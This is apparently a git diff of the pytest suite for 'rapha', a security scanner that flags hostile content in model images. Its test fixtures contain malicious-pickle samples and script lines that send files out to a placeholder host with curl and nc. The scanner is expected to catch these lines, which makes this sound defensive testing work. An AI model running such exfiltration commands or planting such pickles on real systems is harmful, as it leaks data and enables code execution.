@@ -9,13 +9,16 @@ import pickle
 import sys
 import tracemalloc
 import zipfile
+from collections.abc import Mapping
+from dataclasses import replace
 from pathlib import Path
+from typing import cast
 
 import numpy as np
 import pytest
 
 from rapha.cli import main
-from rapha.runtime.image import Image, build
+from rapha.runtime.image import File, Image, build
 from rapha.runtime.scan import (
     Finding,
     ScanReport,
@@ -27,6 +30,8 @@ from rapha.runtime.scan import (
     scan,
     scanner,
 )
+from rapha.runtime.scan.blob import Memory
+from rapha.runtime.scan.report import MAX_REASON
 from rapha.spec.refusals import REGISTRY, Refused
 
 KEY = b"-----BEGIN %s-----\nMC4CAQAwBQYDK2VwBCIEIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f\n"
@@ -45,8 +50,14 @@ def image(
         predict=None,
         runtime="rt",
         workdir=workdir,
-        files={f"app/{name}": data for name, data in sorted(files.items())},
+        files=held({f"app/{name}": data for name, data in files.items()}),
+        tree=Path("/none"),
     )
+
+
+def held(files: Mapping[str, bytes]) -> Mapping[str, File]:
+    """Files in memory: the scanner asks one for its size and its bytes, and nothing else."""
+    return cast(Mapping[str, File], {path: Memory(data) for path, data in sorted(files.items())})
 
 
 def zipped(name: str, data: bytes = b"x") -> bytes:
@@ -75,11 +86,7 @@ class Evil:
 
 def pickles() -> dict[str, bytes]:
     values = {f"protocol {n}": pickle.dumps(Evil(), protocol=n) for n in range(6)}
-    return {
-        **values,
-        "broken off": pickle.dumps(Evil(), protocol=4)[:-1] + b"\xff",
-        "list": pickle.dumps([1, 2]),
-    }
+    return {**values, "broken off": pickle.dumps(Evil(), protocol=4)[:-1] + b"\xff"}
 
 
 HOSTILE_FILES: list[tuple[str, bytes, str]] = [
@@ -88,7 +95,6 @@ HOSTILE_FILES: list[tuple[str, bytes, str]] = [
     ("w.pt", b"anything", "image.pickle"),
     ("w.pth", zipped("archive/data.pkl"), "image.pickle"),
     ("w", zipped("archive/data.pkl"), "image.pickle"),
-    ("w.pth", pickle.dumps({"a": 1}), "image.pickle"),
     ("w.gz", gzip.compress(pickle.dumps(Evil())), "image.pickle"),
     ("a.npy", npy(np.array([Evil()], dtype=object)), "image.pickle"),
     ("a.npy", npy(np.array([(1, Evil())], dtype=[("x", "i4"), ("y", "O")])), "image.pickle"),
@@ -158,17 +164,24 @@ def test_an_ordinary_file_has_no_finding(name: str, data: bytes) -> None:
 
 
 @pytest.mark.parametrize(
-    ("name", "data", "line"),
+    ("name", "data", "rule", "line"),
     [
-        ("run.sh", b"echo hi\ncurl -d @/rapha/in http://x\n", 2),
-        ("run", b"#!/bin/bash\nset -e\n\n/usr/bin/nc x 1 < f\n", 4),
-        ("run.sh", b"python3 train.py\n", 1),
-        ("tool", b"#!/usr/bin/perl\nprint 1;\n", 1),
+        ("run.sh", b"echo hi\ncurl -d @/rapha/in http://x\n", "image.network_module", 2),
+        ("run", b"#!/bin/bash\nset -e\n\n/usr/bin/nc x 1 < f\n", "image.network_module", 4),
+        ("run.sh", b"eval $x\n", "image.dynamic_code", 1),
+        ("tool", b"#!/usr/bin/perl\nprint 1;\n", "image.subprocess", 1),
     ],
 )
-def test_a_script_for_another_program_warns(name: str, data: bytes, line: int) -> None:
+def test_a_script_for_another_program_warns(name: str, data: bytes, rule: str, line: int) -> None:
     (finding,) = scan(image({name: data})).findings
-    assert (finding.rule, finding.severity, finding.line) == ("image.subprocess", "warn", line)
+    assert (finding.rule, finding.severity, finding.line) == (rule, "warn", line)
+
+
+@pytest.mark.parametrize("data", [pickle.dumps([1, 2]), pickle.dumps({"a": np.zeros(3)})])
+def test_a_pickle_of_nothing_but_data_warns(data: bytes) -> None:
+    for name in ("w", "w.pkl", "w.pth"):
+        (finding,) = scan(image({name: data})).findings
+        assert (finding.rule, finding.severity) == ("image.pickle", "warn")
 
 
 def test_python_is_python_by_its_first_line_or_because_it_starts() -> None:
@@ -244,10 +257,8 @@ def test_the_working_folder_is_where_scripts_are_looked_for() -> None:
 
 
 def test_files_outside_app_are_pointed_out() -> None:
-    outside = image({})
-    outside = Image(
-        **{**{k: getattr(outside, k) for k in outside.__slots__}, "files": {**outside.files, "etc/x": b""}}
-    )
+    inside = image({})
+    outside = replace(inside, files={**inside.files, **held({"etc/x": b""})})
     (finding,) = scan(outside).findings
     assert (finding.severity, finding.path) == ("info", "")
 
@@ -265,7 +276,7 @@ def test_findings_are_counted_gravest_first_and_capped(monkeypatch: pytest.Monke
 def test_reasons_are_bounded_and_can_be_written_down() -> None:
     report = scan(image({"train.py": b"__import__('socket.\\ud800" + b"x" * 2000 + b"')"}))
     json.dumps(report.dump()).encode()
-    assert all(len(f.reason) <= scanner.MAX_REASON for f in report.findings)
+    assert all(len(f.reason) <= MAX_REASON for f in report.findings)
 
 
 def test_rules_are_data() -> None:
@@ -275,11 +286,13 @@ def test_rules_are_data() -> None:
         "allowed": ["colours.blue"],
         **{part: {} for part in ("attributes", "keywords")},
         **{part: [] for part in ("reexported", "opaque", "writable", "protected", "shell_network")},
+        **{part: [] for part in ("slight", "methods", "pickle_data")},
+        "symbols": {},
     }
     rules = parse_rules(table)
     assert scan(image({"train.py": b"import socket, colours.blue"}), rules).ok
     report = scan(image({"train.py": b"import colours.red"}), rules)
-    assert (report.ok, report.scanner_version) == (False, "1/mine")
+    assert (report.ok, report.scanner_version) == (False, "2/mine")
 
 
 def test_sarif_places_each_finding() -> None:
